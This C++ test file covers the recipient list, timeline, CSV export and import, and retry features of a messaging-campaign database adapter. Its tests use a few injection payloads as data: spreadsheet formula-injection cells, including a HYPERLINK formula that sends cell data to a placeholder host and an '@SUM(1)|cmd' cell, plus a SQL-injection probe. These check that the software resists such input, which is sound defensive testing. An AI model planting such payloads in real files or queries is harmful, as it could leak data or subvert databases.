/// The list of a campaign, for people: pages, the timeline of one recipient, the export.

#include "adapters/postgres/delivery/ledger.hpp"
#include "adapters/postgres/delivery/projection.hpp"
#include "stentor/core/audience/recipient_id.hpp"
#include "stentor/core/audience/screening.hpp"
#include "stentor/core/base/csv_cell.hpp"
#include "tests/adapters/postgres/support/admin_side.hpp"
#include "tests/support/sample_file.hpp"

#include <nlohmann/json.hpp>

#include <algorithm>
#include <string>
#include <utility>
#include <vector>

namespace stentor::postgres::testing {
namespace {

using core::errc;
using nlohmann::json;

class recipients_test : public admin_side {
protected:
  void SetUp() override {
    admin_side::SetUp();
    id = make_draft();
    base.run("INSERT INTO suppression (organization_no, phone, reason, stopped_at) VALUES (1, "
             "4915112345605, 'STOP', now())");
    static_cast<void>(need(recipients->add(who, id, people(6))));
    base.run("UPDATE campaign SET status = 'sending'");
    base.run("INSERT INTO delivery (campaign_no, seq, state, settled_attempt, number_no, "
             "accepted_ms, delivered_ms, read_ms) VALUES "
             "(1, 1, 4, 0, 1, 1000000, 1002000, 1010000), (1, 3, 2, 0, 1, 1001000, NULL, NULL)");
    base.run("INSERT INTO delivery (campaign_no, seq, state, attempt, settled_attempt, "
             "rejected_attempt, rejected_ms, error_code, error_text, number_no, number_attempt, "
             "message_attempt, message_id, accepted_ms, delivered_ms) VALUES "
             "(1, 2, 3, 1, 1, 0, 1000000, 130429, 'busy', 1, 1, 1, 'wamid.1', 1000500, 1004500)");
    base.run("INSERT INTO delivery (campaign_no, seq, state, failed_attempt, error_code, "
             "number_no, failed_ms) VALUES (1, 4, 6, 0, 131026, 1, 1001000)");
    base.run("INSERT INTO delivery_batch (writer, batch, campaign, seq, attempt, kind, code, "
             "number, at_ms, text) VALUES "
             "(1, 1, '{1,1,9}', '{2,4,2}', '{0,0,0}', '{6,5,1}', '{130429,131026,0}', '{1,1,1}', "
             "'{1000000,1001000,1}', '{busy,gone,x}'), "
             "(1, 2, '{1,1}', '{2,2}', '{1,1}', '{1,3}', '{0,0}', '{1,0}', '{1000500,1004500}', "
             "'{wamid.1,wamid.1}')");
  }

  /// Recipient 5 gets a history that is folded: a refusal, then, hours later, a message.
  void happened(std::int64_t first_ms, std::int64_t second_ms) {
    auto book = need(ledger::open(base.options()));
    auto fold = need(projection::open(base.options()));
    base.run("DELETE FROM delivery_batch");
    ports::ledger_write w;
    w.events.add(1, 5, 0, core::event_kind::rejected, 131016, 1, first_ms, "busy");
    need(book->commit(w));
    w = {};
    w.events.add(1, 5, 1, core::event_kind::accepted, 0, 1, second_ms, "wamid.1");
    w.events.add(1, 5, 1, core::event_kind::delivered, 0, 0, second_ms + 1'000, "wamid.1");
    need(book->commit(w));
    while (!need(fold->fold(100)).caught_up) {
    }
    base.run("UPDATE delivery_batch SET committed_at = to_timestamp(at_ms[1] / 1000.0)");
  }
  std::vector<std::string> kinds() {
    std::vector<std::string> all;
    const auto told = json::parse(need(recipients->timeline(who, id, "5")));
    for (const auto& e : told["events"])
      all.push_back(e["kind"]);
    return all;
  }
  using words = std::vector<std::string>;

  std::string id;
};

TEST_F(recipients_test, recipients_are_listed_by_status) {
  EXPECT_EQ(json::parse(need(recipients->list(who, id, "", {2, 4})))["data"].size(), 2U);
  recount_roll_ups(base);
  const auto failed = json::parse(need(recipients->list(who, id, "failed", {})));
  EXPECT_EQ(failed["total"], 1);
  EXPECT_EQ(failed["data"][0]["errorCode"], "131026");
  EXPECT_EQ(failed["data"][0]["phoneNumber"], "+4915112345603");
  EXPECT_EQ(json::parse(need(recipients->list(who, id, "screened", {})))["data"][0]["screenReason"],
            "opted_out");
  EXPECT_EQ(recipients->list(who, id, "odd", {}).error().code, errc::invalid);
}

TEST_F(recipients_test, a_list_goes_on_behind_the_last_one_shown) {
  std::vector<int> seen;
  core::page p{.number = 1, .limit = 4, .after = 0};
  for (int round = 0; round < 3 && p.after; ++round) {
    const auto answer = json::parse(need(recipients->list(who, id, "", p)));
    EXPECT_EQ(answer["total"], 6);
    EXPECT_TRUE(answer["page"].is_null());
    for (const auto& r : answer["data"])
      seen.push_back(r["seq"]);
    const auto next = answer["nextCursor"];
    p.after = next.is_null() ? std::optional<std::int64_t>{} : std::stoll(next.get<std::string>());
  }
  EXPECT_EQ(seen, (std::vector{1, 2, 3, 4, 5, 6}));
}

TEST_F(recipients_test, a_status_is_looked_for_piece_by_piece) {
  base.run("INSERT INTO campaign_recipient_1 (campaign_no, seq, screen, phone) SELECT 1, n, 0, "
           "4916000000000 + n FROM generate_series(7, 250000) n; "
           "UPDATE campaign SET total_recipients = 250000, reached_count = 5; "
           "INSERT INTO delivery (campaign_no, seq, state, failed_attempt, error_code) VALUES "
           "(1, 240000, 6, 0, 131026); ANALYZE");
  recount_roll_ups(base);
  const auto piece = [&](std::optional<std::int64_t> after) {
    return json::parse(need(recipients->list(who, id, "failed", {.limit = 1, .after = after})));
  };
  const auto first = piece({});
  EXPECT_EQ(first["data"][0]["seq"], 4);
  EXPECT_EQ(first["total"], 2);
  EXPECT_EQ(first["nextCursor"], "40000") << "one is shown, and no other is near";
  const auto second = piece(40'000);
  EXPECT_TRUE(second["data"].empty());
  EXPECT_EQ(second["scannedTo"], 80'000);
  const auto last = piece(210'000);
  EXPECT_EQ(last["data"][0]["seq"], 240'000);
  EXPECT_TRUE(last["nextCursor"].is_null());
  EXPECT_EQ(last["scannedTo"], 250'000);
}

TEST_F(recipients_test, totals_by_status_are_those_of_the_list) {
  recount_roll_ups(base);
  base.run("UPDATE campaign SET reached_count = (SELECT count(*) FROM delivery)");
  for (const char* status : {"sending", "cancelled", "expired", "failed", "completed"}) {
    base.run(std::string{"UPDATE campaign SET status = '"} + status + "'");
    for (const char* wanted : {"pending", "sending", "sent", "delivered", "read", "failed",
                               "screened", "cancelled", "expired", "retracted"}) {
      const auto answer = json::parse(need(recipients->list(who, id, wanted, {})));
      EXPECT_EQ(answer["total"], answer["data"].size()) << status << ' ' << wanted;
    }
  }
}

TEST_F(recipients_test, the_timeline_tells_why_in_sentences) {
  const auto by_seq = json::parse(need(recipients->timeline(who, id, "2")));
  EXPECT_EQ(by_seq["recipient"]["status"], "delivered");
  ASSERT_EQ(by_seq["events"].size(), 3U);
  EXPECT_EQ(by_seq["events"][0]["what"]["code"], "event_rejected");
  EXPECT_NE(
      by_seq["events"][0]["what"]["text"].get<std::string>().find("refused for the moment: busy"),
      std::string::npos);
  EXPECT_EQ(by_seq["events"][1]["kind"], "accepted");
  for (const std::string& same :
       {std::string{"+4915112345601"}, std::string{"4915112345601"},
        std::string{"+49 151 12345601"}, by_seq["recipient"]["id"].get<std::string>()})
    EXPECT_EQ(json::parse(need(recipients->timeline(who, id, same))), by_seq) << same;
  const auto screened = json::parse(need(recipients->timeline(who, id, "6")));
  EXPECT_EQ(screened["events"][0]["what"]["params"]["reason_code"], "opted_out");
  EXPECT_EQ(screened["events"][0]["what"]["text"], "Not sent: The person said stop.");
  for (const char* unknown :
       {"7", "0", "-1", "", "+4915112345699", "00000000-0000-0000-0000-000000000001", "x' OR true"})
    EXPECT_EQ(recipients->timeline(who, id, unknown).error().code, errc::not_found) << unknown;
}

TEST_F(recipients_test, events_are_found_around_the_times_of_the_row) {
  const auto now_ms = base.number("SELECT (extract(epoch FROM now()) * 1000)::int8");
  happened(now_ms + 10'000, now_ms + 7'200'000);
  EXPECT_EQ(kinds(), (words{"rejected", "accepted", "delivered"}));
  const auto told = json::parse(need(recipients->timeline(who, id, "5")));
  EXPECT_EQ(told["events"][1]["at"],
            base.text("SELECT to_jsonb(to_timestamp(" + std::to_string(now_ms + 7'200'000) +
                      " / 1000.0)) #>> '{}'"));
}

TEST_F(recipients_test, events_that_were_committed_much_later_are_found_too) {
  const auto now_ms = base.number("SELECT (extract(epoch FROM now()) * 1000)::int8");
  happened(now_ms + 10'000, now_ms + 7'200'000);
  base.run("UPDATE delivery_batch SET committed_at = committed_at + interval '3 days'");
  EXPECT_EQ(kinds(), (words{"rejected", "accepted", "delivered"}));
}

TEST_F(recipients_test, beyond_the_retention_the_row_tells_its_times) {
  const auto now_ms = base.number("SELECT (extract(epoch FROM now()) * 1000)::int8");
  happened(now_ms + 10'000, now_ms + 7'200'000);
  base.run("DELETE FROM delivery_batch WHERE batch = (SELECT min(batch) FROM delivery_batch)");
  EXPECT_EQ(kinds(), (words{"trimmed", "rejected", "accepted", "delivered"}));
  base.run("DELETE FROM delivery_batch");
  EXPECT_EQ(kinds(), (words{"trimmed", "rejected", "accepted", "delivered"}));
}

TEST_F(recipients_test, an_event_that_is_not_folded_yet_is_told_once) {
  const auto now_ms = base.number("SELECT (extract(epoch FROM now()) * 1000)::int8");
  happened(now_ms + 10'000, now_ms + 7'200'000);
  base.run("UPDATE ledger_writer SET folded = 0");
  EXPECT_EQ(kinds(), (words{"rejected", "accepted", "delivered"}));
}

TEST_F(recipients_test, the_export_streams_every_recipient) {
  std::string csv;
  ASSERT_TRUE(recipients
                  ->export_csv(who, id, ports::export_cells::guarded,
                               [&](std::string_view piece) {
                                 csv += piece;
                                 return true;
                               })
                  .ok());
  EXPECT_EQ(std::count(csv.begin(), csv.end(), '\n'), 7);
  EXPECT_TRUE(csv.starts_with("id,seq,phoneNumber,"));
}

/// A name as an export writes it, read back as an import does.
TEST_F(recipients_test, cells_like_formulas_go_out_guarded_and_come_back) {
  const std::vector<std::string> names{"=HYPERLINK(\"http://x/\"&A2)",
                                       "@SUM(1)|cmd",
                                       "-2+3",
                                       "-5",
                                       "+4915112345678",
                                       "\t=1",
                                       "'=1",
                                       "''-x",
                                       "'t Hooft",
                                       "Ana",
                                       "+49 151",
                                       "-2.5",
                                       "'-5"};
  const auto draft = make_draft();
  std::vector<ports::contact_input> people;
  for (std::size_t i = 0; i < names.size(); ++i)
    people.push_back({"+49151" + std::to_string(12340000 + i), "", names[i], "", {}});
  static_cast<void>(need(recipients->add(who, draft, people)));
  const auto exported = [&](const std::string& campaign, ports::export_cells cells) {
    std::string csv;
    EXPECT_TRUE(recipients
                    ->export_csv(who, campaign, cells,
                                 [&](std::string_view piece) {
                                   csv += piece;
                                   return true;
                                 })
                    .ok());
    std::vector<std::string> cells_of_names;
    for (const auto& row : sample::rows_of_text(csv))
      cells_of_names.push_back(row.at("name"));
    return std::pair{csv, cells_of_names};
  };
  EXPECT_EQ(exported(draft, ports::export_cells::raw).second, names);
  const auto [csv, guarded] = exported(draft, ports::export_cells::guarded);
  ASSERT_EQ(guarded.size(), names.size());
  for (std::size_t i = 0; i < names.size(); ++i)
    EXPECT_EQ(guarded[i], (core::is_like_formula(names[i]) ? "'" : "") + names[i]);
  const auto again = make_draft();
  auto import = need(recipients->import_csv(who, again, {}));
  ASSERT_TRUE(import->feed(csv).ok());
  EXPECT_EQ(need(import->finish()).rows_added, static_cast<std::int64_t>(names.size()));
  EXPECT_EQ(exported(again, ports::export_cells::raw).second, names);
}

TEST_F(recipients_test, who_failed_can_be_sent_to_again) {
  base.run(
      "INSERT INTO ledger_writer (writer, folded) VALUES (1, 2); INSERT INTO delivery "
      "(campaign_no, seq, state, attempt, failed_attempt, error_code, failed_ms) VALUES (1, 5, "
      "6, 3, 3, 132000, 1001000)");
  ports::failed_choice choice;
  choice.codes = {132000};
  EXPECT_EQ(need(recipients->retry_failed(who, id, choice)), 1);
  EXPECT_EQ(base.text("SELECT seq || ' ' || attempt || ' ' || retries || ' ' || state FROM "
                      "retry_queue"),
            "5 4 0 0");
  EXPECT_EQ(base.text("SELECT kind || ' ' || attempt FROM delivery_event WHERE seq = 5"),
            "reopened 4");
  EXPECT_EQ(base.text("SELECT action FROM audit_log ORDER BY no DESC LIMIT 1"), "campaign.retry");
  EXPECT_EQ(need(recipients->retry_failed(who, id, choice)), 0) << "they are queued already";
  choice.codes.clear();
  choice.seqs = {1, 4, 99};
  EXPECT_EQ(need(recipients->retry_failed(who, id, choice)), 1) << "1 was read, 99 is nobody";
  base.run("UPDATE retry_queue SET state = 3 WHERE seq = 4; DELETE FROM delivery_batch");
  EXPECT_EQ(need(recipients->retry_failed(who, id, choice)), 1) << "its try was never made";
  base.run("UPDATE campaign SET status = 'cancelled'");
  EXPECT_EQ(recipients->retry_failed(who, id, choice).error().code, errc::conflict);
  EXPECT_EQ(recipients->retry_failed(stranger, id, choice).error().code, errc::not_found);
}

TEST_F(recipients_test, a_retry_that_waits_is_shown_with_its_error_and_time) {
  base.run("INSERT INTO delivery (campaign_no, seq, state, attempt, rejected_attempt, error_code, "
           "error_text, rejected_ms) VALUES (1, 5, 6, 1, 1, 131049, 'enough', 1002000); "
           "INSERT INTO retry_queue (campaign_no, seq, attempt, retries, due_ms) VALUES (1, 5, 2, "
           "2, 87402000)");
  const auto all = json::parse(need(recipients->list(who, id, "failed", {})));
  const auto found = std::find_if(all["data"].begin(), all["data"].end(),
                                  [](const json& one) { return one["seq"] == 5; });
  ASSERT_NE(found, all["data"].end());
  const auto& waiting = *found;
  EXPECT_EQ(waiting["errorCode"], "131049");
  EXPECT_EQ(waiting["retryCount"], 1);
  EXPECT_EQ(waiting["lastRetryAt"], "1970-01-01T00:16:42+00:00");
  EXPECT_EQ(waiting["nextRetryAt"], "1970-01-02T00:16:42+00:00");
  base.run(
      "UPDATE delivery SET state = 2, attempt = 2, accepted_ms = 87403000, message_attempt = 2, "
      "settled_attempt = 2 WHERE seq = 5; UPDATE retry_queue SET state = 2");
  const auto sent = json::parse(need(recipients->timeline(who, id, "5")))["recipient"];
  EXPECT_TRUE(sent["errorCode"].is_null()) << "that try is past";
  EXPECT_EQ(sent["retryCount"], 2);
  EXPECT_TRUE(sent["nextRetryAt"].is_null());
}

TEST_F(recipients_test, held_doubts_end_by_a_persons_word) {
  base.run("INSERT INTO ledger_writer (writer, folded) VALUES (1, 2); INSERT INTO delivery "
           "(campaign_no, seq, state, attempt, in_doubt_attempt, held_attempt) VALUES (1, 5, 9, 1, "
           "1, 1)");
  const ports::held_choice all{{}, true};
  EXPECT_EQ(need(recipients->settle_held(who, id, ports::settlement::resend, {{"1"}, false})).count,
            0)
      << "who is not held is passed over";
  EXPECT_EQ(
      need(recipients->settle_held(who, id, ports::settlement::resend, {{"99"}, false})).count, 0)
      << "there is nobody";
  EXPECT_EQ(need(recipients->settle_held(who, id, ports::settlement::resend, {{"5"}, false})).count,
            1);
  EXPECT_EQ(base.text("SELECT seq || ' ' || attempt || ' ' || state FROM retry_queue"), "5 2 0");
  EXPECT_EQ(base.text("SELECT kind || ' ' || attempt FROM delivery_event WHERE seq = 5"),
            "reopened 2");
  EXPECT_EQ(
      base.text("SELECT action || (detail ->> 'action') FROM audit_log ORDER BY no DESC LIMIT 1"),
      "campaign.settleresend");
  EXPECT_EQ(need(recipients->settle_held(who, id, ports::settlement::resend, all)).count, 0)
      << "it is queued already, whatever the row still says";
  EXPECT_EQ(need(recipients->settle_held(who, id, ports::settlement::give_up, all)).count, 0);
  EXPECT_EQ(recipients->settle_held(stranger, id, ports::settlement::give_up, all).error().code,
            errc::not_found);
}

TEST_F(recipients_test, a_doubt_is_written_off_whatever_the_campaign_is) {
  base.run("INSERT INTO ledger_writer (writer, folded) VALUES (1, 2); INSERT INTO delivery "
           "(campaign_no, seq, state, attempt, in_doubt_attempt, held_attempt) VALUES (1, 5, 9, 1, "
           "1, 1);"
           "UPDATE campaign SET status = 'cancelled'");
  const ports::held_choice all{{}, true};
  EXPECT_EQ(recipients->settle_held(who, id, ports::settlement::resend, all).error().code,
            errc::conflict);
  const auto done = need(recipients->settle_held(who, id, ports::settlement::give_up, all));
  EXPECT_EQ(done.count, 1);
  EXPECT_FALSE(done.more);
  EXPECT_EQ(
      base.text("SELECT kind || ' ' || attempt || ' ' || code FROM delivery_event WHERE seq = 5"),
      "failed 1 -5");
  EXPECT_EQ(base.number("SELECT count(*) FROM retry_queue"), 0);
}

TEST_F(recipients_test, a_receipt_that_is_not_folded_yet_keeps_a_person_from_a_second_message) {
  base.run("INSERT INTO ledger_writer (writer, folded) VALUES (1, 0)"); // batch 1 names recipient 4
  ports::failed_choice choice;
  choice.seqs = {4};
  EXPECT_EQ(need(recipients->retry_failed(who, id, choice)), 0);
}

TEST_F(recipients_test, another_organization_sees_nobody) {
  EXPECT_EQ(recipients->list(stranger, id, "", {}).error().code, errc::not_found);
  EXPECT_EQ(recipients->timeline(stranger, id, "1").error().code, errc::not_found);
  EXPECT_EQ(recipients->add(stranger, id, people(1)).error().code, errc::not_found);
  EXPECT_EQ(recipients->export_csv(stranger, id, {}, [](auto) { return true; }).error().code,
            errc::not_found);
}

TEST_F(recipients_test, ids_and_reasons_are_those_of_the_schema) {
  for (const int seq : {1, 4096, 2'000'000'000})
    EXPECT_EQ(base.text("SELECT recipient_id('" + id + "', " + std::to_string(seq) + ")"),
              core::recipient_id(id, seq));
  for (const auto reason : core::screen_reasons) {
    const auto row = base.query("SELECT name, meaning FROM screen_reason WHERE code = " +
                                std::to_string(static_cast<int>(reason)));
    EXPECT_EQ(row.text(0, 0), core::to_string(reason));
    EXPECT_EQ(row.text(0, 1), core::meaning_of(reason));
  }
  const auto kinds_known = base.query("SELECT code, name FROM event_kind");
  for (int i = 0; i < kinds_known.size(); ++i)
    EXPECT_EQ(kinds_known.text(i, 1),
              core::to_string(static_cast<core::event_kind>(kinds_known.integer(i, 0))));
}

} // namespace
} // namespace stentor::postgres::testing
